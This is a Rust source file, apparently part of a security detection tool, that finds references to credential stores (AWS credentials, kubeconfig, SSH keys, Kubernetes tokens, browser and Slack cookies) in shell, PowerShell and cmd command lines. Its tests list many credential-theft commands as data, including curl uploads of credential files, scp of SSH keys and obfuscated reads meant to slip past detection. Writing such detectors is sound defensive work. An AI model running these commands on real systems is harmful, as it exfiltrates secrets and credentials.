//! Looks for the path of a token store in a command line.

use std::ops::Range;

use super::{TokenStore, could_be, could_be_in, of_path};
use crate::path::{self, canonical};
use crate::words::{self, Word};

/// How deep texts within texts are read, as in `sh -c "su -c 'cat ..'"`.
const MOST_DEPTH: usize = 3;

/// In how many places of a word a path may begin.
const MOST_STARTS: usize = 16;

/// The store that a command line leads to, its canonical path, and where it is told.
///
/// Each word is tried, and each part of one after `=`, `@`, `:`, `,`, `<` or a bracket;
/// also the words of a word that is a text of its own, as after `sh -c`. A store with
/// credentials wins over a file that is none, then the first. The range is that of the
/// path where it stands in the line as it is, else that of the word.
pub fn in_command(
    command_line: &str,
    directory: Option<&str>,
) -> Option<(&'static TokenStore, String, Range<usize>)> {
    let search = Search::new(directory);
    let mut other = None;
    for reading in readings(command_line) {
        for word in arguments(reading(command_line)) {
            let Some(found) = search.in_text(&word.text, 0) else { continue };
            let range = place(command_line, &word, &found.text);
            if found.store.is_credential() {
                return Some((found.store, found.path, range));
            }
            other.get_or_insert((found.store, found.path, range));
        }
    }
    other
}

type Reading = fn(&str) -> Vec<Word>;

/// The ways to split a line: that of its looks, then others if backslashes or quotes
/// make a difference.
fn readings(line: &str) -> &'static [Reading] {
    match (words::is_windows(line), line.contains('\\')) {
        (true, _) => &[words::windows, words::powershell, words::posix],
        (false, true) => &[words::posix, words::powershell],
        (false, false) => &[words::posix],
    }
}

struct Found {
    store: &'static TokenStore,
    path: String,
    text: String,
}

/// A search from one directory.
struct Search<'a> {
    directory: Option<&'a str>,
    /// Whether any file of the directory could be of a store.
    in_store: bool,
}

impl<'a> Search<'a> {
    fn new(directory: Option<&'a str>) -> Self {
        let canonical = directory.and_then(|directory| canonical(directory, None));
        Self { directory, in_store: canonical.is_some_and(|directory| could_be_in(&directory)) }
    }

    fn in_text(&self, text: &str, depth: usize) -> Option<Found> {
        let whole = || parts(text).find_map(|part| self.in_part(part));
        if depth == MOST_DEPTH || !is_script(text) {
            return whole();
        }
        let split = if words::is_windows(text) { words::powershell } else { words::shell };
        let inner = || {
            let words = arguments(split(text));
            words
                .filter(|word| word.text.len() < text.len())
                .find_map(|word| self.in_text(&word.text, depth + 1))
        };
        // `/a/b c` is a path with a blank, `cat b` is no file of the directory.
        if path::is_anchored(text) { whole().or_else(inner) } else { inner().or_else(whole) }
    }

    fn in_part(&self, part: &str) -> Option<Found> {
        if part.starts_with('-') {
            return None;
        }
        // A path may be followed by a mark, as in `-v /a/b:/c`; before its first slash the
        // marks are those of drives and variables.
        let first = part.find(['/', '\\']).unwrap_or(0);
        let end = part[first..].find([':', ',', ']', '}']).map(|length| &part[..first + length]);
        [Some(part), end].into_iter().flatten().find_map(|text| self.at(text))
    }

    fn at(&self, text: &str) -> Option<Found> {
        // What is spelled plainly shows by its own text whether it is worth folding.
        let is_spelled = text.contains(['%', ':', '$', '"', '\'', '~'])
            || text.ends_with(['/', '\\', '.', ')'])
            || text.ends_with(char::is_whitespace);
        if !is_spelled && !self.in_store && !could_be(text) {
            return None;
        }
        let path = canonical(text, self.directory)?;
        let store = of_path(&path)?;
        Some(Found { store, path, text: text.to_owned() })
    }
}

/// The words without the name of the program, which is no file of the directory.
fn arguments(words: Vec<Word>) -> impl Iterator<Item = Word> {
    let is_path = |word: &Word| word.text.contains(['/', '\\', '$', '%', '=', '@']);
    words
        .into_iter()
        .enumerate()
        .filter(move |(number, word)| *number > 0 || is_path(word))
        .map(|(_, word)| word)
}

fn is_script(text: &str) -> bool {
    text.contains([' ', '\t', '\n', '"', '\'', ';', '|', '&', '<', '>', '(', ')', '`'])
        || text.contains("IFS")
}

/// The parts of a word that could be a path.
fn parts(text: &str) -> impl Iterator<Item = &str> {
    let after = text.match_indices(['=', '@', ':', ',', '<', '[', '{']).map(|(at, mark)| at + mark.len());
    // `-I/path`: a letter and its value.
    let option = (text.starts_with('-') && text.is_char_boundary(2)).then_some(2);
    std::iter::once(0).chain(option).chain(after).take(MOST_STARTS).map(|from| &text[from..])
}

fn place(line: &str, word: &Word, text: &str) -> Range<usize> {
    let written = line.get(word.range.clone()).unwrap_or_default();
    written.find(text).map_or(word.range.clone(), |at| {
        let from = word.range.start + at;
        from..from + text.len()
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(line: &str, directory: Option<&str>) -> Option<(&'static str, String, String)> {
        let (store, path, range) = in_command(line, directory)?;
        Some((store.id.as_str(), path, line.get(range).expect("a part of the line").to_owned()))
    }

    #[test]
    fn paths_are_found_where_commands_have_them() {
        // A command line, its directory, the store, the path, and where it stands.
        #[rustfmt::skip]
        let cases = [
            ("cat /root/.aws/credentials", "", "aws-credentials", "/root/.aws/credentials", "/root/.aws/credentials"),
            ("cat credentials", "/root/.aws", "aws-credentials", "/root/.aws/credentials", "credentials"),
            ("cat ../.aws/credentials", "/root/x", "aws-credentials", "/root/.aws/credentials", "../.aws/credentials"),
            ("cat .aws/credentials", "", "aws-credentials", ".aws/credentials", ".aws/credentials"),
            ("cat ~/.kube/config", "", "kubeconfig", "~/.kube/config", "~/.kube/config"),
            ("cat ~bob/.kube/config", "", "kubeconfig", "~bob/.kube/config", "~bob/.kube/config"),
            ("cat '$HOME/.aws/credentials'", "", "aws-credentials", "~/.aws/credentials", "$HOME/.aws/credentials"),
            ("cat \"${HOME}/.aws/credentials\"", "", "aws-credentials", "~/.aws/credentials", "${HOME}/.aws/credentials"),
            ("cat /ro''ot/.a\"ws\"/credentials", "", "aws-credentials", "/root/.aws/credentials", "/ro''ot/.a\"ws\"/credentials"),
            ("cat $'/root/.aws/cr\\x65dentials'", "", "aws-credentials", "/root/.aws/credentials", "$'/root/.aws/cr\\x65dentials'"),
            ("curl --data-binary @/root/.aws/credentials http://h", "", "aws-credentials", "/root/.aws/credentials", "/root/.aws/credentials"),
            ("curl -F f=@/root/.aws/credentials;type=x http://h", "", "aws-credentials", "/root/.aws/credentials", "/root/.aws/credentials"),
            ("curl -d@/root/.netrc h", "", "netrc", "/root/.netrc", "/root/.netrc"),
            ("curl -T/root/.netrc h", "", "netrc", "/root/.netrc", "/root/.netrc"),
            ("dd if=/proc/1/root/run/secrets/kubernetes.io/serviceaccount/token of=/tmp/x", "", "kubernetes-service-account-token", "/run/secrets/kubernetes.io/serviceaccount/token", "/proc/1/root/run/secrets/kubernetes.io/serviceaccount/token"),
            ("curl file:///root/.aws/credentials", "", "aws-credentials", "/root/.aws/credentials", "file:///root/.aws/credentials"),
            ("scp /root/.ssh/id_rsa bob@h:/tmp", "", "ssh-key", "/root/.ssh/id_rsa", "/root/.ssh/id_rsa"),
            ("scp h:/root/.ssh/id_rsa .", "", "ssh-key", "/root/.ssh/id_rsa", "/root/.ssh/id_rsa"),
            ("docker run -v /root/.aws/credentials:/c:ro i", "", "aws-credentials", "/root/.aws/credentials", "/root/.aws/credentials"),
            ("docker run --mount type=bind,source=/root/.kube/config,target=/c i", "", "kubeconfig", "/root/.kube/config", "/root/.kube/config"),
            ("sh -c 'cat</root/.aws/credentials;id'", "", "aws-credentials", "/root/.aws/credentials", "/root/.aws/credentials"),
            ("sh -c \"su -c 'cat /root/.aws/credentials'\"", "", "aws-credentials", "/root/.aws/credentials", "/root/.aws/credentials"),
            ("bash -c cat$IFS/root/.netrc|base64", "", "netrc", "/root/.netrc", "/root/.netrc"),
            ("python3 -c \"print(open('/root/.aws/credentials').read())\"", "", "aws-credentials", "/root/.aws/credentials", "/root/.aws/credentials"),
            ("kubectl exec p -- cat //var/run/secrets/kubernetes.io/serviceaccount/token", "", "kubernetes-service-account-token", "/run/secrets/kubernetes.io/serviceaccount/token", "//var/run/secrets/kubernetes.io/serviceaccount/token"),
            ("cat /run/secrets/kubernetes.io/serviceaccount/ca.crt", "", "kubernetes-ca", "/run/secrets/kubernetes.io/serviceaccount/ca.crt", "/run/secrets/kubernetes.io/serviceaccount/ca.crt"),
            ("cat ca.crt token", "/run/secrets/kubernetes.io/serviceaccount", "kubernetes-service-account-token", "/run/secrets/kubernetes.io/serviceaccount/token", "token"),
            ("cat $AWS_WEB_IDENTITY_TOKEN_FILE", "", "eks-irsa-token", "/run/secrets/eks.amazonaws.com/serviceaccount/token", "$AWS_WEB_IDENTITY_TOKEN_FILE"),
            (r"cmd /c type %USERPROFILE%\.aws\credentials", "", "aws-credentials", r"~\.aws\credentials", r"%USERPROFILE%\.aws\credentials"),
            (r"powershell gc $env:USERPROFILE\.aws\credentials", "", "aws-credentials", r"~\.aws\credentials", r"$env:USERPROFILE\.aws\credentials"),
            (r#"powershell.exe -c "[IO.File]::ReadAllBytes('C:\Users\bob\.azure\msal_token_cache.bin')""#, "", "azure-cli-token-cache", r"C:\Users\bob\.azure\msal_token_cache.bin", r"C:\Users\bob\.azure\msal_token_cache.bin"),
            (r"powershell.exe copy 'C:\Users\bob\AppData\Local\Google\Chrome\User Data\Default\Login Data' x", "", "chromium-tokens", r"C:\Users\bob\AppData\Local\Google\Chrome\User Data\Default\Login Data", r"C:\Users\bob\AppData\Local\Google\Chrome\User Data\Default\Login Data"),
            (r#"cmd /c copy "C:\Users\bob\AppData\Roaming\Slack\Cookies" x"#, "", "slack", r"C:\Users\bob\AppData\Roaming\Slack\Cookies", r"C:\Users\bob\AppData\Roaming\Slack\Cookies"),
            (r"esentutl.exe /y C:\Users\bob\AppData\Roaming\Slack\Cookies /d x", "", "slack", r"C:\Users\bob\AppData\Roaming\Slack\Cookies", r"C:\Users\bob\AppData\Roaming\Slack\Cookies"),
            (r"type .aws\credentials", r"C:\Users\bob", "aws-credentials", r"C:\Users\bob\.aws\credentials", r".aws\credentials"),
            (r"type \\host\c$\Users\bob\.aws\credentials", "", "aws-credentials", r"\\host\c$\Users\bob\.aws\credentials", r"\\host\c$\Users\bob\.aws\credentials"),
        ];
        for (line, directory, store, path, text) in cases {
            let directory = Some(directory).filter(|directory| !directory.is_empty());
            assert_eq!(found(line, directory), Some((store, path.to_owned(), text.to_owned())), "{line}");
        }
    }

    #[test]
    fn ordinary_commands_lead_to_no_store() {
        for line in [
            "",
            "ls -la /home/bob",
            "cat /etc/passwd",
            "aws s3 ls",
            "git commit -m 'credentials'",
            r"C:\Windows\System32\svchost.exe -k netsvcs -p",
            "curl http://h/root/.aws/credentials",
            "grep -r token /srv",
        ] {
            assert_eq!(found(line, Some("/srv/app")), None, "{line}");
        }
    }

    #[test]
    fn hostile_lines_end() {
        for piece in ["(", "'", "\"'", "=", "@/a", "a b", "$(", "\\", "C:\\", "~/", "{'", "=/a:"] {
            in_command(&piece.repeat(200_000 / piece.len()), Some("/a"));
        }
    }
}
